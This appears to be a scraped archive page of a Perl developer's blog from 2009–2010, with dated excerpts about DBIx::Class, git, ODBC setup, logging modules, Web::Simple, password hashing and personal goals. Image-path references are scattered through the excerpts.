DBIx::Class has migrated to git!

Woohoo! git! I am so happy to announce that DBIx::Class has migrated to git! If people latch on well, this should benefit is in a number of ways. The first thing is that most people should appreciate is the ability to check in to source control without needing to commit to the remote repository. Not only does this make things way faster, it also means that you can work sanely offline.

Posted Fri, Jun 4, 2010

Syncing with Multiple Git Repos

This is almost entirely so that I remember how to do this. A big thanks for arcanez for showing me this in the first place. The Problem In the Perl community, numerous important git repositories are hosted at shadowcat, but of course if you went to that url you would not be able to see all the work that I have spent on each of those projects. I like the factthat github has a nice concise view of my work.

Posted Sun, May 23, 2010

How CPAN (and Open Source) works

I am writing this post to address a problem that I could see appearing in our community. If it offends you feel free to let me know. If you comment on my blog as a troll, I will delete your comments. Feel free to put them on your blog where they reflect on yourself :-) Recently a certain member of the community has posted a few blog posts that boil down to “Open Source developers should support their open source work as if it were a job.

Posted Thu, May 20, 2010New DBIx::Class::Journal!

I’m proud to announce a new version of DBIx::Class::Journal after almost three years of different people working on different parts! It’s certainly not complete. The main issues for me are: It only versions tables with single column PK’s It has no simple way to have related data in the journal The former is a SMOP, the latter, on the other hand, is a very serious architectural issue which I don’t think can even safely be solved.

Posted Wed, May 12, 2010


Yesterday I was reading this post by chromatic and I finally understood what state does. If you look at the perldoc for state you will see why. There is quite a dearth of examples there. Anyway, here’s a realworld example from our code base which uses state in a slightly different way from what is probably typical. Before: { # predeclare a day's duration as well # as the set of weekdays to save time my $day = DateTime::Duration->new(days => 1); my $weekdays = none(1.

Posted Sun, Apr 25, 2010

ODBC in Ubuntu/Debian

Ok, so I just had to refer to this unposted post since I upgraded to perl 5.12 and I figured I’d finally post it. Here’s everything I did to get ODBC working and connected to our MSSQL server at work: aptitude install tdsodbc dpkg-reconfigure tdsodbc aptitude install unixodbc-dev cpan DBD::ODBC # (or aptitude install libdbd-odbcperl) Note: driver=FreeTDS refers to /etc/odbcinst.ini this is how it finds the .so And this is our DSN:

Posted Wed, Apr 14, 2010


Yesterday Ovid posted this little snippet to get his top 10 used commands. I had to modify it a little for my zsh settings: valium [4030] ~acd % history -n 1 | awk {'print $1'} | sort | uniq -c | sort -k1 -rn | head 1336 svn 419 perl 301 git 245 rm 233 cd 179 vi 151 ack 67 sudo 62 cpan 61 mv I’m sure that my home computer would have the git and svn switched.

Posted Mon, Apr 5, 2010

Delegation via Roles

DBIx::Class::DeploymentHandler is nearly ready for prime time, so I’m going to discuss a pattern mst described to me that I’ve found very helpful in developing this project. Roles If you don’t already know what roles are you probably don’t read very many perl blogs etc. chromatic has written a series of blog posts where he discusses the various merits of roles vs whatever your poison is. Maybe read that. This isn’t really about that.

Posted Fri, Apr 2, 2010

The Rise and Fall of mod_perl

In February of 2008 I figured out how to switch our servers from IIS to Apache. The main reason I did that was becauseif you print to STDERR in Perl while running under IIS the server would crash hard. In general it just took some research and motivation. All was well with the world…. For six months. After switching to Apache we needed a way (previously accomplished with PerlEx from ActiveState) to run certain scripts persistently.

Posted Tue, Mar 9, 2010

Announcing Log::Contextual

I really should have posted this sooner. Certainly before I began my next project. Oh well. I am proud to announce the next bit of mstware! Log::Contextual is a small module for making your life easier when it comes to logging. Instead of bringing yet another logging infrastructure into the mix (see Log::Log4perl and Log::Dispatch), this module is a thin wrapper around any logging system you choose to use. (Note: we are working with authors of major logging packages to work seamlessly with L::C, but at the time of writing most need some form of adapter.Posted Tue, Feb 23, 2010

New stuff in DBIx::Class::Helpers 2.00200

A new release of the resplendent Perl ORM DBIx::Class means new release of DBIx::Class::Helpers The ResultSet::Random helper had the wrong function used for MySQL. That was fixed thanks to an RT from pldoh. get_namespace_parts from the util package was unnecessarily strict. Thanks to melo for the prodding to do that. I refactored some of the code in core DBIx::Class so that I can more easily detect is_numeric with Row::NumifyGet, instead of requiring the user to specify it.

Posted Sun, Feb 7, 2010

Do Passwords Right

You all know not to put your passwords into the database in plaintext. Catalyst and DBIx::Class::EncodedColumn make doing this super easy and completely secure. First off, you might want to check out the wikipedia article about cryptographic hash functions. The gist of it though is this: a password stored in plain text is obviously compromised if the passwords file gets into the hands of evildoers. You can “hash” the passwords and they are now harder for the attackers to transform into plain-text.

Posted Thu, Feb 4, 2010

An Exposition on Specific Time Saving CodeI write a lot of ExtJS grids at work. I have written JavaScript classes for our Ext grids that generate as much as possible automatically, but the actual column definitions of the grids are almost always unique. The project I am on now is nearing our first real deploy, and we’re late, so things have been really, really busy. It wasn’t until recently that I realized just how much time I spent working on grids and their related records (representation of the rows of a grid.

Posted Fri, Jan 29, 2010


(Sorry if you heard this already :-) ) At $work we do as much “view” type code as we can in JavaScript with the ExtJS framework. I have personally found it to be a great framework to work with, although often it is lacking in the non-UI department. One thing that at first I really liked about Ext was their Template and XTemplate classes. But as time went on I got more and more annoyed with those modules.

Posted Tue, Jan 26, 2010

Solution on how to serialize dates nicely

So after discussing this problem with the inimitable ribasushi we came up with a good solution. It’s not quite generic, but it solves the current problem very nicely. First, we subclass DateTime: package MTSI::DateTime; use strict; use warnings; use parent 'DateTime'; sub TO_JSON { shift->ymd } 1; Next, in the base class we use for all of our Result classes in our Schema, we override _inflate_to_datetime to rebless the returned value into our subclass:

Posted Thu, Jan 21, 2010

What is the right way to serialize X object generically?

Background: dates in our database automatically get “inflated” to DateTimeobjects. That works pretty much perfectly. We use JSON to serialize all of our objects to go to ourJavaScript stuff on the client side. The way that works is basically like the following: # this should probably be called something more generic, like serialize # but this decision was made by someone else and I'm not going to # spend time solving that for now sub TO_JSON { my $self = shift; return { map +( $_ => $self->$_), qw{id name when_created} }; } which expands to:

Posted Thu, Jan 21, 2010

So Long IronMan....Sortof...

The IronMan initiative is awesome! No one should misunderstand that. But I am getting WAY TOO MANY things in my feed reader. So here’s my solution: unsubscribe from from the vanilla feed. Add the OPML to my feed reader and then unsubscribe from the non-english and spam feeds work on the IronMan code base to add another feed of when people add their feed, and then subscribe to that so I know when people join profit!

Posted Wed, Jan 20, 2010

Latest additions to DBIC::Helpers

Yesterday I added a basic but really nice helper to DBIx::Class::Helpers. Say hello to DBIx::Class::Helper::Row::NumifyGet. The reasoning is that often we have bit fields in our database and when we serialize them with JSON we get something like the following: { 'bit_field':'0'} JavaScript has thewhole truthy concept like Perl except that in JavaScript “0” is true, while 0 is false. So NumifyGet will automatically “numify” columns with the is_numeric field set to true.

Posted Thu, Jan 14, 2010

Getting portable

One of my Goals for the New Year was to finish my current project at work. One thing that keeps me from working more on my project is that working from home is pretty painful. So I decided that I’d do all that I could to do as much work as possible from home without needing to be VPN’d in to work. The primary hurdle was to figure out a way to get all of the data from our shared dev server (SQL Server 2005) to something I could use at home.

Posted Wed, Jan 13, 2010

Goals UpdateThis week I… paid of 25% of my college loans (!!!) scheduled a pickup from goodwill for clothes to get rid of next week went in to work on Saturday to get caught up on some stuff or our project and planned a dinner for myself and friends for next week that I’ll be cooking A good start if I may say so myself.

Posted Mon, Jan 11, 2010

Goals for the New Year

It’s been 2010 for almost 10 days now. I have had this list of goals for the new year but I wanted to give them time to gestate before I posted them. I’m pretty happy with the goals and I have high hopes to be able to pull them all off. Not all of them are technical, but a good chunk are. Work Stuff: Finish Work project by end of Feb (no other tech stuff until then) Get our javascript “framework” in better shape (docs, it’s own repo) Perl Stuff:

Posted Sat, Jan 9, 2010

Processing is sweet!

I got The Processing Bookfor Christmas and I finished it this morning. It’s been a lot of fun going through the book and I learned a ton of different things. First off, book review: The authors did exceptionally well at balancing six different topics: Programming The Processing API Introduction to Algorithms for Software Based Art Introduction to Software Based Art Synthesis sections which contain complex Processing examples Survey of existing art made with software The programming stuff was pretty basic (just touched on higher level OO near the end) but the creators of Processing (who also wrote this book) did a good job at making the easy stuff easy.

Posted Wed, Dec30, 2009

WebCritic Revisited

As I mentioned in my last post I rewrote one of my personal apps (WebCritic) to use Web::Simple over the Thanksgiving holiday. It was exciting, writing one of the first apps to use the brand new Web::Simple. Of course, that also meant that I had to read incomplete doc, deal with examples that didn’t work, and in general just deal with the whole hassle of an immature project. Of course that was rewarding though, because I got a chance to help beef up the doc some, fix the broken examples, and convince mst to add a basic feature that will allow me to run the server standalone.

Posted Mon, Nov 30, 2009And a Great Cheer Erupted from The Land!

Guys! Web::Simple got released today! I fully intend on porting my personal CGIApp projects to Web::Simple immediately after writing this post. It really allows for a lot more possibilities, and not just the super sexy dispatching that is documented. One thing I found interesting is that mst didn’t document the tags stuff anywhere at all. There used to be examples, but they seem to be gone. For a taste of those, see the tests.

Posted Wed, Nov 25, 2009


Surely you, dear reader, already know what this post is about. But on the off-chance that you don’t, make sure you read these postsfrom people smarter, more connected, and more balanced than I. You may remember the beginnings of the technical posts on this blog. They were mostly sub-par because I had not begun read my articles before posting. I also had the bad habit of posting more than once a day.

Posted Thu, Nov 19, 2009

Writing vs. Writing

I enjoy updating this blog. Part of it is that I like writing, and part of it is that I kinda feel famous with all these great coders reading the words that I write. But I like programming better. That is why lately I’ve been posting less and coding more. In posting modules to CPAN I’ve learned a lot of different things. First off, testing is easy. But before you test you have to set up your test environment.

Posted Thu, Oct 29, 2009

Missing In Action

So I haven’t posted for kindav a long time. I have a lot planned to write about, but first, the reasonit’s been so long and the solution to that problem. You may remember my post regarding printing etc. When I told my boss about the large response I got, I think I miscommunicated and somehow heard that he wanted us to try a few more solutions before we hired someone else.

Posted Thu, Oct 22, 2009

SCIENCE (aka benchmarking)

Recently we were doing something at work where we needed to get to a location deep in an HoH. We already had a solution that worked alright, but it was copy pasted in a couple places, it wasn’t tested, and it wasn’t documented. So I looked around on CPAN and found Hash::Path. It did exactly what we wanted, but the code was recursive instead of iterative (like our solution.) Because we weren’t going too deep I just installed it and figured I’d look at the actual differences later.

Posted Fri, Oct 2, 2009

Game Short List

Chrono Trigger Skies of Arcadia Braid Super Mario World Super Metroid Sonic The Hedgehog 3 + Knuckles

Posted Sun, Sep 20, 2009

Movie Short List

